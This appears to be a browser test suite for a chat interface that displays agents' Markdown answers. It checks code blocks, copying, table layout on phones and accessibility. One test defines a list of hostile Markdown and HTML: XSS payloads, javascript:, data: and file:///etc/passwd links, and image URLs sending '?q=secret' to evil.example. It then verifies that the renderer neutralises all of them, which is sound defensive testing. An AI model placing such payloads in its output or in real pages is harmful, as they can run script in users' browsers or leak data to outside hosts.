/** Markdown of agents in a browser: code and tables that can be used, and nothing that an agent writes gets out of its bubble. */

import { axe, expect, screenshots, type Locator } from "./harness.ts";
import { articles, newest, sidewaysOverflow, test } from "./answers-scene.ts";

const CODE = 'def greet(name: str) -> str:\n    """Politely."""\n    return f"Hello, {name}!"  # 42';
const LONG_LINE = `const sentence = "${"a word and ".repeat(40)}";`;
const TABLE = [
  "| Harbour | High tide | Low tide | Depth in metres | Pilotage | Berths for guests |",
  "| :-- | --: | --: | --: | :-: | --: |",
  "| Husum | 12:10 | 18:25 | 3.5 | no | 12 |",
  "| Tönning | 12:55 | 19:05 | 2.8 | no | 8 |",
  "| Brunsbüttel | 14:20 | 20:40 | 10.4 | yes | 40 |",
].join("\n");

test("code says its language, is coloured, and is copied word for word; long lines scroll or wrap inside of it", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith({ permissions: ["clipboard-read", "clipboard-write"] });
  await coder.send(id, `Python:\n\n\`\`\`python\n${CODE}\n\`\`\`\n\nand TypeScript:\n\n\`\`\`ts\n${LONG_LINE}\n\`\`\``);
  const [python, script] = [block("python"), block("ts")];
  await expect(python.figure.getByText("python", { exact: true })).toBeVisible();
  await expect.poll(() => colours(python.text)).toBeGreaterThan(2);

  await python.figure.getByRole("button", { name: "Copy" }).click();
  await expect(python.figure.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
  await expect(python.figure.getByRole("button", { name: "Copy", exact: true })).toBeVisible();

  expect(await script.text.evaluate((pre) => pre.scrollWidth > pre.clientWidth)).toBe(true);
  expect(await sidewaysOverflow(page)).toBe(0);
  await script.figure.getByRole("button", { name: "Wrap long lines" }).click();
  await expect(script.figure.getByRole("button", { name: "Wrap long lines" })).toHaveAttribute("aria-pressed", "true");
  expect(await script.text.evaluate((pre) => pre.scrollWidth > pre.clientWidth)).toBe(false);

  function block(language: string): { figure: Locator; text: Locator } {
    const figure = newest(page).getByRole("figure").filter({ has: page.getByText(language, { exact: true }) });
    return { figure, text: figure.getByRole("group", { name: `Code, ${language}` }) };
  }
});

test("at 320 pixels tables, code, long words and long addresses stay within the bubble, and the page never scrolls sideways", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith({ viewport: { width: 320, height: 640 } });
  const word = "Donaudampfschifffahrtsgesellschaftskapitänspatent".repeat(3);
  const address = `https://example.com/${"a-long-path/".repeat(12)}`;
  await coder.send(id, `# ${word}\n\n${TABLE}\n\n${word} and ${address}\n\n\`${word}\`\n\n\`\`\`\n${LONG_LINE}\n\`\`\`\n\n> - ${word}`);
  const table = newest(page).getByRole("group", { name: "Table" });
  expect(await table.evaluate((box) => box.scrollWidth > box.clientWidth)).toBe(true);
  for (const width of [320, 360, 390]) {
    await page.setViewportSize({ width, height: 640 });
    expect(await sidewaysOverflow(page)).toBe(0);
    const log = (await page.getByRole("log").boundingBox())!;
    const bubble = (await newest(page).boundingBox())!;
    expect(bubble.x + bubble.width).toBeLessThanOrEqual(log.x + log.width);
    expect(await page.getByRole("log").evaluate((each) => each.scrollWidth - each.clientWidth)).toBe(0);
  }
  // By the keyboard, too.
  await table.focus();
  await page.keyboard.press("ArrowRight");
  await expect.poll(() => table.evaluate((box) => box.scrollLeft)).toBeGreaterThan(0);
});

test("on a phone no column takes all the room: what is long has some width, headings break, and the table scrolls", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith({ viewport: { width: 390, height: 844 } });
  const said = "nine words that say what has to be known";
  await coder.send(id, `| What is to be decided by the end of the week | Why | N |\n|---|---|---|\n| ${said} | ${said} | 1 |\n| x | y | 2 |`);
  const table = newest(page).getByRole("group", { name: "Table" });
  const widths = await table.locator("td").evaluateAll((cells) => cells.slice(0, 3).map((cell) => cell.getBoundingClientRect().width));
  const heights = await table.locator("tr").evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
  expect(Math.min(...widths.slice(0, 2))).toBeGreaterThanOrEqual(150);
  // What is short takes no more than it needs.
  expect(widths[2]).toBeLessThan(60);
  expect(Math.max(...heights)).toBeLessThan(5 * 24);
  expect(await sidewaysOverflow(page)).toBe(0);
});

test("what is selected over several messages is copied without what stands around it: no names, times, languages or buttons", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith({ permissions: ["clipboard-read", "clipboard-write"] });
  for (const place of ["First", "Second"]) {
    const run = await coder.run(id);
    await run.say(`${place} answer.\n\n\`\`\`python\nprint(1)\n\`\`\`\n\nIts end.`);
    await run.finish();
  }
  await expect(articles(page)).toHaveCount(2);
  await expect(newest(page).locator("time")).toBeVisible();
  await page.getByRole("log").evaluate((log) => getSelection()!.selectAllChildren(log));
  await page.keyboard.press("ControlOrMeta+c");
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied.split(/\n+/).filter((line) => line.trim() !== "")).toEqual(
    ["First answer.", "print(1)", "Its end.", "Second answer.", "print(1)", "Its end."],
  );
});

const HOSTILE = [
  '<img src=x onerror="alert(1)"><img src="https://evil.example/?q=secret">',
  "<script>alert(2)</script><svg onload=alert(3)><iframe src='https://evil.example'></iframe><style>*{display:none}</style>",
  "![a picture](https://evil.example/pixel.png?q=secret) ![](//evil.example/p.png) ![x](data:image/svg+xml,<svg/onload=alert(4)>)",
  "[one](javascript:alert(5)) [two](JaVaScRiPt:alert(6)) [three](data:text/html,<script>alert(7)</script>) [four](vbscript:x) [five](file:///etc/passwd)",
  "[six](java\tscript:alert(8)) <javascript:alert(9)> [seven][evil] [eight](&#106;avascript:alert(10))",
  "[good](https://example.com/fine) https://example.com/auto <me@example.com>",
  '<a href="https://evil.example" onclick="alert(11)">click</a> <button onclick=alert(12)>press</button> <form action=//evil.example><input name=q>',
  "[evil]: javascript:alert(13)",
].join("\n\n");

test("hostile Markdown makes no element, no request and no dialog, neither while it is written nor afterwards", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const run = await coder.run(id);
  await run.say(HOSTILE, { everyMs: 5 });
  await expect(newest(page)).toContainText("press");
  await expectHarmless();
  await run.finish();
  await expect(newest(page).getByRole("button", { name: "More about this message" })).toHaveCount(1);
  await expectHarmless();
  // Requests to others fail every test by themselves.
  expect(dialogs).toEqual([]);

  async function expectHarmless(): Promise<void> {
    expect(await newest(page).locator("img, script, svg[onload], iframe, style, form, input, [onclick], [onerror]").count()).toBe(0);
    const links = newest(page).getByRole("link");
    const all = await links.evaluateAll((each) => each.map((link) => (link as HTMLAnchorElement).href));
    for (const href of all) expect(href).toMatch(/^(https:\/\/|mailto:)/);
    await expect(newest(page).getByRole("link", { name: /^(one|two|three|four|five|six|seven|eight)$/ })).toHaveCount(0);
    await expect(newest(page).getByRole("link", { name: "good" })).toHaveAttribute("href", "https://example.com/fine");
    for (const link of await links.all()) {
      await expect(link).toHaveAttribute("rel", /noopener/);
      await expect(link).toHaveAttribute("target", "_blank");
    }
    // A picture is a link that says where it leads.
    await expect(newest(page).getByRole("link", { name: "a picture evil.example" })).toBeVisible();
  }
});

test("file names, numbers and what looks like marks survive as they were typed", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith();
  const lines = [
    "snake_case_name.py, my_file_v2_final.txt, src/__init__.py, __main__.py and obj.__call__()",
    "2*3*4 = 24, 5 * 6 * 7, 10 ** 3",
    "~/notes, C:\\new\\table.txt, 3.10, v1.2.0-rc.1, 1,000,000",
    "a < b && c > d, List<String>, $5 and $6, 50% ~ 60%",
    "#1 is fixed, @alice, 100€, 12:30-13:45, AT&T, &c.",
  ];
  await coder.send(id, lines.join("\n"));
  const said = newest(page).getByText("snake_case_name.py");
  expect((await said.innerText()).split("\n")).toEqual(lines);
  await expect(newest(page).locator("em, del, code")).toHaveCount(0);
});

test("a long answer with everything in it is good to look at and to hear, in light and dark, wide and on a phone", async ({ chatWith }) => {
  const { coder, page, id } = await chatWith();
  await coder.send(
    id,
    [
      "# Tides of the week\n\nThe **spring tide** comes on *Thursday*; `tide.py` computes it, and [the almanac](https://example.com/almanac) agrees. ~~Wednesday~~",
      "## What to do\n\n1. Moor twice\n   - fore\n   - aft\n2. Watch the gauge\n\n- [x] Fenders out\n- [ ] Lines doubled",
      `\`\`\`python\n${CODE}\n\`\`\``,
      TABLE,
      "> The sea is *patient*.\n>\n> > And so is the harbour master.",
      "---\n\nA formula: $E = mc^2$, and a picture: ![the harbour](https://example.com/harbour.png)",
    ].join("\n\n"),
  );
  await expect(newest(page).getByRole("table")).toBeVisible();
  await expect(articles(page)).toHaveCount(1);
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    expect(await axe(page)).toEqual([]);
  }
  await screenshots(page, "answers-markdown");
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await axe(page)).toEqual([]);
});

/** How many colours the text of an element has. */
async function colours(text: Locator): Promise<number> {
  return text.evaluate((element) => new Set([...element.querySelectorAll("span")].map((each) => getComputedStyle(each).color)).size);
}
